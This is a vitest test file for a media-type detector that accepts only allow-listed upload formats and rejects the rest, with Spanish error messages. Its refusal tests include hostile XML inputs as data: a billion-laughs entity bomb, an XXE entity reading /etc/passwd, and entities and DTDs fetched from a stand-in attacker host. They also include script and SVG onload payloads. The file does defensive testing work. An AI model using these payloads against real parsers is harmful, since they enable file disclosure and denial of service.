import { describe, expect, it } from 'vitest';
import { detectMediaType } from '../../../standards/content/detectMediaType.ts';
import { bufferRangeSource } from '../../../standards/content/RangeSource.ts';
import { countingSource } from './countingSource.ts';
import { storedZip } from './storedZip.ts';

const bytes = (...parts: (string | number[])[]) => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));
const detect = (b: Uint8Array) => detectMediaType(bufferRangeSource(b));

const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0]);
const TIFF_LE = bytes('II', [42, 0, 8, 0, 0, 0], [0, 0]);
const TIFF_BE = bytes('MM', [0, 42, 0, 0, 0, 8], [0, 0]);
const ODF_MANIFEST = '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>';
const odf = (mimetype: string, extra: { name: string; data?: string }[] = []) =>
  storedZip([{ name: 'mimetype', data: mimetype }, { name: 'content.xml', data: '<office:document-content/>' }, { name: 'META-INF/manifest.xml', data: ODF_MANIFEST }, ...extra]);
const ooxml = (folder: string, extra: string[] = []) =>
  storedZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: '_rels/.rels', data: '<Relationships/>' }, { name: `${folder}document.xml`, data: '<x/>' }, ...extra.map((name) => ({ name }))]);

describe('detectMediaType: the allow-list, from bytes alone', () => {
  it.each([
    ['PDF', bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj'), 'application/pdf', 'pdf'],
    ['PDF 2.0', bytes('%PDF-2.0\n'), 'application/pdf', 'pdf'],
    ['PNG', PNG, 'image/png', 'png'],
    ['JPEG', JPEG, 'image/jpeg', 'jpg'],
    ['JPEG (Exif)', bytes([0xff, 0xd8, 0xff, 0xe1, 0, 16], 'Exif'), 'image/jpeg', 'jpg'],
    ['TIFF little-endian', TIFF_LE, 'image/tiff', 'tiff'],
    ['TIFF big-endian', TIFF_BE, 'image/tiff', 'tiff'],
    ['XML with declaration', bytes('<?xml version="1.0" encoding="UTF-8"?>\n<expediente/>'), 'application/xml', 'xml'],
    ['XML with BOM, blanks and a comment', bytes([0xef, 0xbb, 0xbf], '\n  <!-- índice -->\n<a:indice xmlns:a="urn:x">'), 'application/xml', 'xml'],
    ['XML without declaration', bytes('<documento id="1"></documento>'), 'application/xml', 'xml'],
    ['XML in ISO-8859-1', bytes('<?xml version="1.0" encoding="ISO-8859-1"?><nota>', [0xe9], '</nota>'), 'application/xml', 'xml'],
    ['XML in UTF-16LE', new Uint8Array(Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le')), 'application/xml', 'xml'],
    ['XML with a harmless DOCTYPE', bytes('<?xml version="1.0"?><!DOCTYPE nota [<!ELEMENT nota (#PCDATA)>]><nota/>'), 'application/xml', 'xml'],
    ['JSON object', bytes('{"a": [1, 2, {"b": null}]}'), 'application/json', 'json'],
    ['JSON array with BOM', bytes([0xef, 0xbb, 0xbf], ' [1, "', [0xc3, 0xb1], '"]'), 'application/json', 'json'],
    ['ODF text', odf('application/vnd.oasis.opendocument.text'), 'application/vnd.oasis.opendocument.text', 'odt'],
    ['ODF spreadsheet', odf('application/vnd.oasis.opendocument.spreadsheet'), 'application/vnd.oasis.opendocument.spreadsheet', 'ods'],
    ['ODF presentation', odf('application/vnd.oasis.opendocument.presentation'), 'application/vnd.oasis.opendocument.presentation', 'odp'],
    ['OOXML docx', ooxml('word/'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
    ['OOXML xlsx', ooxml('xl/'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    ['OOXML pptx', ooxml('ppt/'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation', 'pptx'],
  ])('%s', async (_name, input, mediaType, extension) => {
    expect(await detect(input)).toEqual({ ok: true, mediaType, extension });
  });
});

describe('detectMediaType: everything else is refused with a reason the user can act on', () => {
  it.each([
    ['a renamed Windows executable', bytes('MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode'), 'not-allowed', 'ejecutable de Windows'],
    ['an ELF executable', bytes([0x7f], 'ELF', [2, 1, 1, 0]), 'not-allowed', 'ejecutable ELF'],
    ['a GIF', bytes('GIF89a', [1, 0, 1, 0]), 'not-allowed', 'GIF'],
    ['an old Office (OLE2) file', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'not-allowed', 'OLE2'],
    ['HTML with a doctype', bytes('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>'), 'not-allowed', 'HTML'],
    ['HTML without a doctype', bytes('  <HTML lang="es"><head></head></HTML>'), 'not-allowed', 'HTML'],
    ['XHTML', bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'), 'not-allowed', 'HTML'],
    ['SVG', bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'not-allowed', 'SVG'],
    ['plain text', bytes('Estimado señor:\nAdjunto el oficio.'), 'not-allowed', 'texto que no es JSON ni XML'],
    ['a bare JSON scalar', bytes('42'), 'not-allowed', 'texto que no es JSON ni XML'],
    ['only blanks', bytes('  \n\t '), 'not-allowed', 'espacios en blanco'],
    ['a plain zip', storedZip([{ name: 'fotos/uno.txt', data: 'x' }]), 'not-allowed', 'ZIP que no es un documento ODF ni OOXML'],
    ['an EPUB (zip with a non-ODF mimetype)', storedZip([{ name: 'mimetype', data: 'application/epub+zip' }, { name: 'META-INF/container.xml' }]), 'not-allowed', 'application/epub+zip'],
    ['an ODF database', odf('application/vnd.oasis.opendocument.base'), 'not-allowed', 'tipo no admitido'],
    ['ODF with macros', odf('application/vnd.oasis.opendocument.text', [{ name: 'Basic/Standard/Module1.xml' }]), 'not-allowed', 'macros'],
    ['a macro-enabled Word document', ooxml('word/', ['word/vbaProject.bin']), 'not-allowed', 'vbaProject.bin'],
    ['an OOXML package of no known kind (XPS-like)', storedZip([{ name: '[Content_Types].xml' }, { name: 'Documents/1/FixedDoc.fdoc' }]), 'not-allowed', 'Word, Excel ni PowerPoint'],
    ['binary noise', bytes([0x13, 0x37, 0x00, 0xff, 0x10]), 'not-allowed', 'binario'],
  ])('%s', async (_name, input, reason, detail) => {
    const result = await detect(input);
    expect(result).toMatchObject({ ok: false, reason });
    if (result.ok) return;
    expect(result.message).toContain(detail);
    expect(result.message).toMatch(/^El contenido no corresponde a un formato admitido \(.+\)\. Formatos admitidos: PDF, PDF\/A, XML, JSON, PNG, JPEG, TIFF, ODF, OOXML\.$/);
  });

  it('refuses empty content', async () => {
    expect(await detect(new Uint8Array(0))).toMatchObject({ ok: false, reason: 'empty' });
  });

  it.each([
    ['billion laughs', '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n]>\n<lolz>&lol2;</lolz>', 'entidades'],
    ['XXE with an external entity', '<?xml version="1.0"?><!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]><foo>&xxe;</foo>', 'XXE'],
    ['a parameter entity', '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://atacante.example/x.dtd"> %dtd;]><foo/>', 'entidades'],
    ['an entity hidden after a quoted "]"', '<!DOCTYPE foo [<!ATTLIST foo a CDATA "]>"><!ENTITY x "y">]><foo/>', 'entidades'],
    ['an external DTD', '<?xml version="1.0"?><!DOCTYPE nota SYSTEM "http://atacante.example/nota.dtd"><nota/>', 'DTD externa'],
    ['a public external DTD', '<!DOCTYPE nota PUBLIC "-//X//DTD Nota//ES" "nota.dtd"><nota/>', 'DTD externa'],
  ])('refuses XML with %s as unsafe, saying why', async (_name, xml, detail) => {
    const result = await detect(bytes(xml));
    expect(result).toMatchObject({ ok: false, reason: 'unsafe-xml' });
    if (!result.ok) expect(result.message).toMatch(new RegExp(`^El XML no se admite: .*${detail}`));
  });

  it.each([
    ['invalid JSON', '{"a": 1,}', 'el JSON no es válido'],
    ['JSON that is not UTF-8', [0x7b, 0x22, 0xe9, 0x22, 0x3a, 0x31, 0x7d], 'UTF-8'],
    ['an XML that ends before its root element', '<?xml version="1.0"?><!-- solo un comentario -->', 'elemento raíz'],
    ['a damaged zip directory', 'PK\x03\x04 esto no es un zip', 'ZIP está dañado'],
  ])('refuses %s as malformed', async (_name, input, detail) => {
    const result = await detect(typeof input === 'string' ? bytes(input) : new Uint8Array(input));
    expect(result).toMatchObject({ ok: false, reason: 'malformed' });
    if (!result.ok) expect(result.message).toMatch(new RegExp(`^El contenido no es válido \\(.*${detail}.*\\)\\. Corríjalo y vuelva a enviarlo\\.$`));
  });

  it('refuses an XML whose prolog does not end within the examined 64 KiB', async () => {
    const result = await detect(bytes('<?xml version="1.0"?>', `<!--${'x'.repeat(70_000)}-->`, '<a/>'));
    expect(result).toMatchObject({ ok: false, reason: 'malformed' });
  });
});

describe('detectMediaType reads through ranges', () => {
  it('classifies a 1 GB OOXML package from its head and central directory only', async () => {
    const zip = Buffer.from(ooxml('xl/'));
    const firstEntryEnd = 30 + '[Content_Types].xml'.length + '<Types/>'.length;
    // 1 GB of entry data sits after the first entry; the end record's directory offset moves past it.
    const gap = 1_000_000_000;
    zip.writeUInt32LE(zip.readUInt32LE(zip.length - 6) + gap, zip.length - 6);
    const src = countingSource([zip.subarray(0, firstEntryEnd), gap, zip.subarray(firstEntryEnd)]);
    const result = await detectMediaType(src);
    expect(result).toMatchObject({ ok: true, extension: 'xlsx' });
    expect(src.bytesRead()).toBeLessThan(200_000);
  });

  it('accepts a large JSON document by its ends, without reading it all', async () => {
    const src = countingSource([bytes('{"items": ['), { length: 50_000_000, fill: 0x20 }, bytes(']}\n')]);
    expect(await detectMediaType(src)).toEqual({ ok: true, mediaType: 'application/json', extension: 'json' });
    expect(src.bytesRead()).toBeLessThan(100_000);
  });

  it('refuses a large "JSON" document whose end does not close what it opened', async () => {
    const src = countingSource([bytes('[1,'), { length: 2_000_000, fill: 0x20 }, bytes(' 2')]);
    expect(await detectMediaType(src)).toMatchObject({ ok: false, reason: 'malformed' });
  });

  it('parses JSON in full up to 1 MiB', async () => {
    const item = '{"n": 1},';
    const body = `[${item.repeat(100_000)}{}]`;
    expect(body.length).toBeLessThan(1024 * 1024);
    expect(await detect(bytes(body))).toMatchObject({ ok: true, extension: 'json' });
    expect(await detect(bytes(body.replace('{}]', '{]')))).toMatchObject({ ok: false, reason: 'malformed' });
  });

  it('lets an error from the source propagate unchanged', async () => {
    const failure = new Error('el almacén no responde');
    await expect(detectMediaType({ size: 10, read: () => Promise.reject(failure) })).rejects.toBe(failure);
  });
});
